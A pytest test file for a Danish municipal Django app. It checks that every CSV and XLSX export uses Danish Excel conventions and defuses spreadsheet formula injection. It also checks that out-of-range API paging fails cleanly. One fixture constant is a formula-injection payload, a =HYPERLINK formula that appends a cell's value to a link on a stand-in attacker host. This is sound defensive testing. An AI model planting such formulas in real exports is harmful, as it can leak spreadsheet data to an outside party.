"""Every export URL, found from the URL resolver so that a new export is covered without
editing this file: CSV in the Danish Excel convention, and the formula guard in every
spreadsheet, with data typed to start with =, +, - and @."""

from __future__ import annotations

import datetime as dt
import re
from collections.abc import Iterator
from decimal import Decimal
from typing import Any

import pytest
from django.test import Client
from django.urls import URLPattern, URLResolver, get_resolver, reverse
from django.utils import timezone

from kommuneradar.accounts.models import User
from kommuneradar.cases.models import Case
from kommuneradar.catalog.models import Technology
from kommuneradar.core.downloads import FormatConverter
from kommuneradar.core.formatting import FORMULA_STARTS
from kommuneradar.network.exports import PROFILE_TABLES
from kommuneradar.network.models import Enrolment, JointProject, Programme, Track
from kommuneradar.places.models import Municipality
from kommuneradar.radar.editions import compute_round
from kommuneradar.surveys import services as survey_services
from kommuneradar.surveys.models import Invitation, Round
from tests.benefits.factories import make_project
from tests.cases.factories import make_case
from tests.conftest import MakeRound
from tests.network.conftest import ROBOTS, SCREEN_VISITS
from tests.spreadsheets import body, csv_rows, xlsx_rows

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("https://evil.example/?x="&A1,"Klik her")'
PLUS = "+45 70 10 10 10"
MINUS = "-- kun til intern brug --"
AT = "@SUM(A1:A9)"
TYPED = (HYPERLINK, PLUS, MINUS, AT)

# Sample values of each URL parameter an export may take. A new export with a new
# parameter fails `test_every_export_parameter_has_sample_values` until it is added here.
SAMPLES: dict[str, list[str]] = {
    "year": ["2025"],
    "code": ["630"],
    "slug": ["partnerskab"],
    "table": sorted(PROFILE_TABLES),
}
SPREADSHEETS = ("csv", "xlsx")
DOT_DECIMAL = re.compile(r"^-?\d+\.\d+$")
COMMA_DECIMAL = re.compile(r"^-?\d+,\d+$")


def _patterns(
    resolvers: list[URLPattern | URLResolver], namespace: str = ""
) -> Iterator[tuple[str, URLPattern]]:
    for entry in resolvers:
        if isinstance(entry, URLResolver):
            inner = f"{namespace}{entry.namespace}:" if entry.namespace else namespace
            yield from _patterns(entry.url_patterns, inner)
        else:
            yield namespace, entry


def export_patterns() -> list[tuple[str, URLPattern]]:
    """Every URL that names a file format, by the fmt converter or a fixed format."""
    found = []
    for namespace, pattern in _patterns(get_resolver().url_patterns):
        converters = getattr(pattern.pattern, "converters", {})
        if any(isinstance(c, FormatConverter) for c in converters.values()) or (
            "fmt" in pattern.default_args
        ):
            found.append((namespace, pattern))
    return found


def export_urls(formats: tuple[str, ...]) -> list[tuple[str, str]]:
    """(url name, address) of every export in each of `formats`."""
    urls = []
    for namespace, pattern in export_patterns():
        converters = getattr(pattern.pattern, "converters", {})
        params = [name for name in converters if name != "fmt"]
        name = f"{namespace}{pattern.name}"
        kwarg_sets: list[dict[str, str]] = [{}]
        for param in params:
            kwarg_sets = [{**k, param: value} for k in kwarg_sets for value in SAMPLES[param]]
        for kwargs in kwarg_sets:
            if "fmt" in pattern.default_args:
                if pattern.default_args["fmt"] in formats:
                    urls.append((name, reverse(name, kwargs=kwargs)))
                continue
            for fmt in formats:
                if isinstance(converters.get("fmt"), FormatConverter) and re.fullmatch(
                    converters["fmt"].regex, fmt
                ):
                    urls.append((name, reverse(name, kwargs={**kwargs, "fmt": fmt})))
    return urls


def test_every_export_parameter_has_sample_values() -> None:
    names = {p for _ns, pattern in export_patterns() for p in pattern.pattern.converters}
    assert names - {"fmt"} <= set(SAMPLES), "add sample values for the new export parameter"
    assert len(export_patterns()) >= 9


@pytest.fixture
def seeded(make_round: MakeRound, vejle: Municipality, aarhus: Municipality) -> None:
    """Data in every export, with text typed to start a formula wherever people type text."""
    round_ = make_round(2023, {"skaermbesoeg": SCREEN_VISITS, "rpa": ROBOTS}, rating=8)
    compute_round(round_, publish=True)
    Municipality.objects.filter(pk=vejle.pk).update(population_source=PLUS)
    make_case(vejle, title=HYPERLINK, summary=AT, effects=2, staff_fte=Decimal("1.5"))
    make_project(vejle, title=HYPERLINK, benefit_owner=AT, hours_expected=2500.5)
    make_project(aarhus, title=MINUS, benefit_owner=PLUS)
    programme = Programme.objects.create(
        name="Teknologipartnerskabet",
        slug="partnerskab",
        summary=HYPERLINK,
        starts_on=dt.date(2023, 3, 28),
        ends_on=dt.date(2024, 9, 30),
        enrolment_deadline=dt.date(2023, 3, 6),
        fee_dkk=50_000,
    )
    track = Track.objects.create(
        programme=programme,
        theme=PLUS,
        name=MINUS,
        technology=Technology.objects.get(slug="skaermbesoeg"),
        order=1,
    )
    enrolment = Enrolment.objects.create(
        programme=programme,
        municipality=vejle,
        commitment=HYPERLINK,
        contact_name=AT,
        contact_email="ml@vejle.example",
        enrolled_on=dt.date(2023, 3, 1),
    )
    enrolment.tracks.set([track])
    joint = JointProject.objects.create(
        title=HYPERLINK,
        slug="ai",
        technology=Technology.objects.get(slug="machine-learning"),
        description=MINUS,
        results=AT,
        lead_municipality=vejle,
        starts_on=dt.date(2024, 1, 1),
        status=JointProject.Status.RUNNING,
    )
    joint.participants.set([vejle, aarhus])
    open_round = Round.objects.create(
        year=2025, opens_on=dt.date(2025, 2, 1), closes_on=dt.date(2025, 3, 31)
    )
    survey_services.move_round(open_round, Round.Status.OPEN, None)
    Invitation.objects.filter(round=open_round, municipality=vejle).update(
        recipient_name=HYPERLINK, sent_at=timezone.now()
    )
    Invitation.objects.filter(round=open_round, municipality=aarhus).update(recipient_name=AT)


@pytest.fixture
def analyst_client(client: Client, analyst: User) -> Client:
    """An analyst logged in through the login page (the round export is theirs)."""
    page = client.post("/admin/login/", {"username": "anna", "password": "pw", "next": "/"})
    assert page.status_code == 302, "the analyst logs in"
    return client


def _cells(url: str, fmt: str, client: Client) -> list[Any]:
    response = client.get(url)
    assert response.status_code == 200, url
    rows = csv_rows(response) if fmt == "csv" else xlsx_rows(response)
    headings = list(rows[0]) if rows else []
    return headings + [value for row in rows for value in row.values()]


def _is_number_text(text: str) -> bool:
    return bool(re.fullmatch(r"-?\d+(,\d+)?", text))


def test_every_csv_export_has_a_bom_semicolons_and_comma_decimals(
    seeded: None, analyst_client: Client
) -> None:
    with_decimals = set()
    urls = export_urls(("csv",))
    assert len(urls) >= 9
    for name, url in urls:
        response = analyst_client.get(url)
        assert response.status_code == 200, url
        assert response["Content-Type"] == "text/csv; charset=utf-8", url
        assert body(response).startswith(b"\xef\xbb\xbf"), url
        rows = csv_rows(response)  # a BOM and `;`, or it fails
        cells = [cell for row in rows for cell in row.values() if cell]
        assert not [c for c in cells if DOT_DECIMAL.match(c)], f"dot decimals in {url}"
        if any(COMMA_DECIMAL.match(c) for c in cells):
            with_decimals.add(name)
    assert {"benefits:project_export", "cases:export"} <= with_decimals


def test_every_spreadsheet_export_defuses_formulas(seeded: None, analyst_client: Client) -> None:
    defused_in = set()
    for name, url in export_urls(SPREADSHEETS):
        fmt = url.rsplit(".", 1)[1]
        cells = _cells(url, fmt, analyst_client)
        for cell in cells:
            if not isinstance(cell, str):
                continue  # numbers and dates are values, not formulas
            assert not (cell.startswith(FORMULA_STARTS) and not _is_number_text(cell)), (
                f"{url} holds a live formula: {cell!r}"
            )
        if any(isinstance(cell, str) and cell.lstrip("'") in TYPED for cell in cells):
            assert all(not isinstance(cell, str) or cell not in TYPED for cell in cells), url
            defused_in.add(name)
    # Every export that shows text people typed showed some of it, defused.
    assert {
        "cases:export",
        "benefits:project_export",
        "network:municipalities_export",
        "network:programme_export",
        "network:joint_projects_export",
        "surveys:export",
    } <= defused_in


def test_the_round_monitoring_export_defuses_a_recipient_named_as_a_formula(
    seeded: None, analyst_client: Client
) -> None:
    rows = csv_rows(analyst_client.get("/runder/2025/svarprocent.csv"))
    recipients = {row["modtager"] for row in rows}
    assert "'" + HYPERLINK in recipients and "'" + AT in recipients
    assert HYPERLINK not in recipients


def test_json_exports_keep_codes_and_dot_decimals(seeded: None, analyst_client: Client) -> None:
    for _name, url in export_urls(("json",)):
        response = analyst_client.get(url)
        assert response.status_code == 200, url
        assert response["Content-Type"] == "application/json; charset=utf-8", url
        assert not body(response).startswith(b"\xef\xbb\xbf"), url
    projects = analyst_client.get("/gevinster/projekter/eksport.json").json()
    mine = next(p for p in projects if p["title"] == HYPERLINK)
    assert mine["hours_freed_per_year_expected"] == 2500.5
    assert mine["technology"] == "skaermbesoeg"


def test_downloads_name_their_file_in_the_content_disposition(
    seeded: None, analyst_client: Client
) -> None:
    response = analyst_client.get("/runder/2025/svarprocent.xlsx")
    assert response["Content-Disposition"] == 'attachment; filename="runde-2025-svarprocent.xlsx"'
    assert Case.objects.filter(title=HYPERLINK).exists()


@pytest.mark.parametrize("path", ["/api/v1/cases", "/api/v1/projects"])
@pytest.mark.parametrize(
    "query", ["offset=9223372036854775808", "limit=9223372036854775808", "offset=-1", "limit=0"]
)
def test_out_of_range_pages_of_the_api_answer_422_not_500(
    client: Client, db: Any, path: str, query: str
) -> None:
    response = client.get(f"{path}?{query}")
    assert response.status_code == 422
    assert "detail" in response.json()
